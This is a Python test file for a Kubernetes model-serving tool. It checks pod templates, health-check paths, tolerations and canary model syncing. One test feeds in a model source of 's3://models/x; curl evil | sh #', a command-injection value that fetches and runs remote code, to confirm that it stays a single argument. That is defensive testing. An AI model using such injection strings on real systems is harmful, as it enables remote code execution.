"""Pod templates, where they differ from those that GCO creates for the same item."""

from typing import Any

import pytest

from gco_stream.model.objects import Kind
from gco_stream.planning.resources import manifests
from tests.support.items import endpoint
from tests.support.simulated_cluster import SimulatedCluster

VLLM = "registry.example/vllm:1.0"


def made(spec: dict[str, Any], **attributes: Any) -> SimulatedCluster:
    cluster = SimulatedCluster()
    asked = endpoint(spec=spec, **attributes)
    cluster.reconcile(asked)
    cluster.roll_out()
    cluster.reconcile(asked)
    return cluster


def pod(cluster: SimulatedCluster, name: str = "chat") -> dict[str, Any]:
    found: dict[str, Any] = cluster.get(Kind.DEPLOYMENT, name).spec["template"]["spec"]
    return found


def container(cluster: SimulatedCluster, name: str = "chat") -> dict[str, Any]:
    first: dict[str, Any] = pod(cluster, name)["containers"][0]
    return first


def paths(cluster: SimulatedCluster) -> set[str]:
    """The paths of the kubelet's probes and of the load balancer's health check."""
    first = container(cluster)
    annotations = cluster.get(Kind.INGRESS, "inference-chat").annotations
    return {
        first["readinessProbe"]["httpGet"]["path"],
        first["livenessProbe"]["httpGet"]["path"],
        annotations["alb.ingress.kubernetes.io/healthcheck-path"],
    }


def test_the_root_path_is_the_ingress_path() -> None:
    cluster = made({"image": VLLM}, ingress_path="/models/chat")
    assert container(cluster)["args"] == ["--root-path", "/models/chat"]
    assert paths(cluster) == {"/models/chat/health"}


@pytest.mark.parametrize("args", [["--root-path", "/x"], ["--root-path=/x"]])
def test_a_root_path_in_the_spec_is_kept_and_used_by_health_checks(args: list[str]) -> None:
    cluster = made({"image": VLLM, "args": args})
    assert container(cluster)["args"] == args
    assert paths(cluster) == {"/x/health"}


def test_with_a_command_in_the_spec_all_health_checks_use_the_same_path() -> None:
    cluster = made({"image": VLLM, "command": ["serve"]})
    assert "args" not in container(cluster)
    assert paths(cluster) == {"/health"}


def test_tolerations_are_added_to_the_accelerators_own() -> None:
    own = {"key": "team", "operator": "Equal", "value": "chat", "effect": "NoSchedule"}
    tolerations = pod(made({"tolerations": [own]}))["tolerations"]
    assert [one["key"] for one in tolerations] == ["nvidia.com/gpu", "team"]


def test_a_canary_syncs_its_model_to_the_mains_folder() -> None:
    canary = {"image": "registry.example/serve:2.0", "weight": 5, "replicas": 1}
    cluster = made({"model_source": "s3://models/chat", "canary": canary})
    for name in ("chat", "chat-canary"):
        [sync] = pod(cluster, name)["initContainers"]
        assert sync["args"] == ["s3", "sync", "s3://models/chat", "/models/chat", "--quiet"]


def test_a_model_source_that_is_a_shell_command_is_one_argument() -> None:
    source = "s3://models/x; curl evil | sh #"
    [sync] = pod(made({"model_source": source}))["initContainers"]
    assert "command" not in sync
    assert source in sync["args"]


def test_rendering_does_not_modify_the_items_node_selector() -> None:
    asked = endpoint(spec={"node_selector": {"disk": "fast"}, "capacity_type": "spot"})
    SimulatedCluster().reconcile(asked)
    assert asked.spec is not None
    assert asked.spec.node_selector == {"disk": "fast"}


def test_the_weights_of_main_and_canary_add_up_to_100() -> None:
    assert '"weight": 65' in manifests.weighted_routing("chat", 35)
